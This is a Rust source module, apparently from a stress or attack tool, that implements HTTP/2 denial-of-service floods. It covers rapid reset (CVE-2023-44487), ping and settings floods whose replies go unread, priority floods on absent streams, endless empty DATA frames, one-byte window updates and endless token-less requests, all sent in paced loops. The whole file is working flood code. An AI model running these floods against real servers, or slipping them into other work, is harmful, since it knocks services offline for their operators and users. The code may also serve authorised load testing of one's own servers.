//! Floods of small HTTP/2 frames, each of which costs the server more than its sender.

use super::arms::Arms;
use super::http2::{
    DATA, END_HEADERS, END_STREAM, HEADERS, Http2, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE,
    frame, range_call, settings,
};
use std::io;

/// Frames that are sent together.
const TOGETHER: u32 = 32;

/// Numbers of a client's streams are odd, and end here.
const STREAM_MAX: u32 = 1 << 31;

/// The same frames again and again; what the server answers is read.
async fn again(arms: &Arms, line: &mut Http2, frames: &[u8]) -> io::Result<()> {
    let together = frames.repeat(TOGETHER as usize);
    loop {
        arms.pace(TOGETHER).await;
        line.send(&together).await?;
    }
}

/// A request and its reset, again and again (CVE-2023-44487).
pub(super) async fn rapid_reset(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let head = range_call(&arms.authority());
    let mut stream = 1;
    while stream < STREAM_MAX - 2 * TOGETHER {
        arms.pace(TOGETHER).await;
        let mut together = Vec::new();
        for _ in 0..TOGETHER {
            together.extend(frame(HEADERS, END_HEADERS, stream, &head));
            together.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        line.send(&together).await?;
    }
    Ok(())
}

/// Pings, each of which must be answered.
pub(super) async fn pings(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    again(arms, &mut line, &frame(PING, 0, 0, &[7; 8])).await
}

/// The same, and the answers are not read (CVE-2019-9512).
pub(super) async fn deaf_pings(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    again(arms, &mut line, &frame(PING, 0, 0, &[7; 8])).await
}

/// Settings, each of which must be acknowledged; nobody reads it (CVE-2019-9515).
pub(super) async fn deaf_settings(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    again(arms, &mut line, &settings(&[(4, 65_535), (1, 4096)])).await
}

/// Window updates of one byte.
pub(super) async fn windows(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    again(
        arms,
        &mut line,
        &frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
    )
    .await
}

/// Priorities of streams that are not there (CVE-2019-9513).
pub(super) async fn priorities(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    again(arms, &mut line, &frame(PRIORITY, 0, 99, &[0, 0, 0, 3, 16])).await
}

/// Empty pieces of a body that never ends (CVE-2019-9518).
pub(super) async fn empty_data(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let head = range_call(&arms.authority());
    line.send(&frame(HEADERS, END_HEADERS, 1, &head)).await?;
    again(arms, &mut line, &frame(DATA, 0, 1, &[])).await
}

/// Whole requests without a token, each of which must be refused.
pub(super) async fn requests(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let head = range_call(&arms.authority());
    let message = [0, 0, 0, 0, 3, 0x0a, 1, b'h'];
    for stream in (1..STREAM_MAX).step_by(2) {
        arms.pace(1).await;
        let mut both = frame(HEADERS, END_HEADERS, stream, &head);
        both.extend(frame(DATA, END_STREAM, stream, &message));
        line.send(&both).await?;
    }
    Ok(())
}
